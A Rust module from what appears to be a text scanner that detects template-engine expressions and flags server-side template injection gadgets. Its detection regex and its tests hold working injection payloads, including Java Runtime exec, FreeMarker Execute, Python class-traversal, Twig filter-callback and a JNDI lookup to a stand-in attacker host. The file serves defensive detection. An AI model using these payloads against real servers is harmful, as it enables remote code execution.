//! Expressions of template engines.

use std::sync::LazyLock;

use regex_automata::meta::Regex;

use super::{
    hazard::{Hazard, window},
    rules,
};

/// Opening and closing marks, and how sure that the text means an engine.
const MARKS: [(&str, &str, f32); 9] = [
    ("{{", "}}", 0.6),
    ("{%", "%}", 0.7),
    ("${", "}", 0.5),
    ("#{", "}", 0.5),
    ("<%", "%>", 0.8),
    ("*{", "}", 0.3),
    ("[[", "]]", 0.3),
    ("[(", ")]", 0.3),
    ("<#", ">", 0.6),
];

/// Bytes of an expression that are read.
const MAX_EXPRESSION: usize = 1 << 10;

/// Words that lead from a value to code, PortSwigger "Server-side template injection" and
/// PayloadsAllTheThings.
static GADGET: LazyLock<Option<Regex>> = LazyLock::new(|| {
    let syntax = regex_automata::util::syntax::Config::new()
        .unicode(false)
        .utf8(false)
        .case_insensitive(true);
    Regex::builder().syntax(syntax).build(
        r"__[a-z]{2,20}__|\bconstructor\b|\bT\s?\(\s?java|\bjava\.(?:lang|util|io)|freemarker|\?new\s?\(|getRuntime|ProcessBuilder|getClass|forName|\bself\b\s?[._]|\bconfig\b|\bcycler\b|\blipsum\b|\bjoiner\b|\bos\.(?:popen|system)|\bpopen\b|\bsystem\s?\(|\bexec\s?\(|\beval\s?\(|\bimport\b|\brequire\s?\(|\bglobal\.process|\bprocess\.|\benv\b|\bsettings\.|\b_self\b|registerUndefinedFilterCallback|\bFile\.|\bIO\.|\bKernel\b|`[^`]{1,80}`|\b\d{1,9}\s?\*\s?'?\d{1,9}|\|\s?(?:attr|map|filter|sort|reduce)\s?\(|\brequest\.(?:application|args|environ)|\b(?:jndi|ldap|dns|rmi|env|sys|lower|upper|date|java):|\bphp\b|\bclass\.|\binclude\b|\bdebug\b|\brange\.constructor|#set\s?\(",
    )
    .ok()
});

/// Reports the expressions in `text`.
pub(super) fn hazards(text: &str, out: &mut Vec<Hazard>) {
    let mut read_to = 0;
    for at in memchr::memchr3_iter(b'{', b'<', b'[', text.as_bytes()) {
        let from = at.saturating_sub(1);
        let Some((start, open, close, confidence)) = MARKS.iter().find_map(|(open, close, c)| {
            let starts_at = |start: usize| text.get(start..).is_some_and(|t| t.starts_with(open));
            if starts_at(at) {
                Some((at, open, close, *c))
            } else if matches!(*open, "${" | "#{" | "*{") && starts_at(from) {
                Some((from, open, close, *c))
            } else {
                None
            }
        }) else {
            continue;
        };
        if start < read_to {
            continue;
        }
        let body = window(text, start + open.len(), MAX_EXPRESSION);
        let Some(len) = memchr::memmem::find(body.as_bytes(), close.as_bytes()) else {
            // Nothing closes within reach: the same holds for what opens alike right after.
            continue;
        };
        let inner = body.get(..len).unwrap_or_default();
        let end = start + open.len() + len + close.len();
        read_to = end;
        let gadget = GADGET.as_ref().is_some_and(|words| words.is_match(inner));
        if gadget {
            out.push(Hazard::new(&rules::TEMPLATE_GADGET, start..end, 0.95));
        } else if !inner.trim().is_empty() {
            out.push(Hazard::new(
                &rules::TEMPLATE_EXPRESSION,
                start..end,
                confidence,
            ));
        }
    }
    thymeleaf(text, out);
}

/// Attributes that Thymeleaf evaluates.
fn thymeleaf(text: &str, out: &mut Vec<Hazard>) {
    for at in memchr::memmem::find_iter(text.as_bytes(), "th:") {
        let name = window(text, at + 3, 32);
        let len = name.bytes().take_while(u8::is_ascii_lowercase).count();
        let assigned = name.as_bytes().get(len) == Some(&b'=');
        if len > 1 && assigned {
            out.push(Hazard::new(
                &rules::TEMPLATE_EXPRESSION,
                at..at + 4 + len,
                0.7,
            ));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(text: &str) -> Vec<String> {
        let mut out = Vec::new();
        hazards(text, &mut out);
        out.into_iter().map(|h| h.rule.id.to_string()).collect()
    }

    #[test]
    fn gadgets_are_told_from_expressions() {
        assert!(GADGET.is_some());
        for text in [
            "{{7*7}}",
            "${7*7}",
            "#{7*7}",
            "<%= 7*7 %>",
            "{{''.__class__.__mro__[1]}}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "{{config.items()}}",
            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
            "{{constructor.constructor('alert(1)')()}}",
            "{% import os %}",
            "*{T(java.lang.Math)}",
            "{{ self.__init__.__globals__ }}",
            "${jndi:ldap://evil.example/a}",
            "[[${7*7}]]",
            "{{_self.env.registerUndefinedFilterCallback('exec')}}",
            "<%= `id` %>",
        ] {
            assert!(
                found(text).contains(&"output.template-gadget".into()),
                "{text}"
            );
        }
        for text in [
            "{{ name }}",
            "${name}",
            "#{name}",
            "<%= name %>",
            "{% if x %}",
            "th:text=\"x\"",
        ] {
            assert_eq!(found(text), ["output.template-expression"], "{text}");
        }
    }

    #[test]
    fn prose_and_code_without_marks_pass() {
        for text in [
            "a set {1, 2} and $5 [see 3] < 4",
            "fn f() { g(); }",
            "{\"a\": {\"b\": 1}}",
            "50 % off",
            "a[[1, 2]",
        ] {
            assert_eq!(found(text), Vec::<String>::new(), "{text}");
        }
    }

    #[test]
    fn open_marks_without_end_take_linear_time() {
        for piece in ["{{", "${", "[[", "{%", "{{{{ } "] {
            assert!(found(&piece.repeat(100_000)).is_empty());
        }
    }
}
